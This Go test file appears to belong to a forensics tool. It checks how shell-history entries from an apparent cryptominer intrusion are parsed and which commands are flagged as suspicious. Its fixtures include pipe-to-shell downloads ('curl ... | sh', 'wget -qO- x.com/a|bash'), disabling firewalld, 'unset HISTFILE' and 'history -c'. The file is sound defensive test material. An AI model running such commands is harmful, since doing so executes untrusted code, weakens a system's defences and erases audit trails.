package observe

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
)

func TestHistory(t *testing.T) {
	s, c := lookAt(t, "history", fact.Snapshot{}, history)
	want := []string{
		"11-22 17:55:00 history root  /root/.bash_history:4 iptables -I INPUT -p tcp --dport 6380 -j ACCEPT",
		"11-22 17:56:40 history root  /root/.bash_history:6 redis-cli -a *** ping",
		"11-22 17:58:20 history root  /root/.bash_history:8 curl -fsSL https://get.example.com/install.sh | sh",
		"11-22 18:01:40 history root  /root/.bash_history:12 vi /etc/ssh/sshd_config",
		"11-22 18:03:20 history dev  /home/dev/.zsh_history:1 sudo systemctl disable firewalld",
		"11-22 18:06:40 history dev  /home/dev/.zsh_history:3 pkill -9 xmrig",
		"11-22 19:37:00 log-wiped root  /root/.ash_history:0 ", // a link to /dev/null
	}
	if d := cmp.Diff(want, events(s)); d != "" || c.State != fact.Seen {
		t.Error(c, d)
	}
}

func TestTellsSomething(t *testing.T) {
	for line, want := range map[string]bool{
		"echo iptables": false, "nft list ruleset": true, "cat /etc/crontab": true, "curl https://x/y": false,
		"sudo chattr -i /etc/crontab": true, "kill -9 812": true, "ls kill -9": false, "wget -qO- x.com/a|bash": true,
		"unset HISTFILE": true, "history -c": true, "history | less": false, "systemctl enable x": true, "systemctl restart x": false, "": false, strings.Repeat("a", 1<<20): false,
	} {
		if _, got := tellsSomething(line); got != want {
			t.Errorf("%.40q: %v", line, got)
		}
	}
}
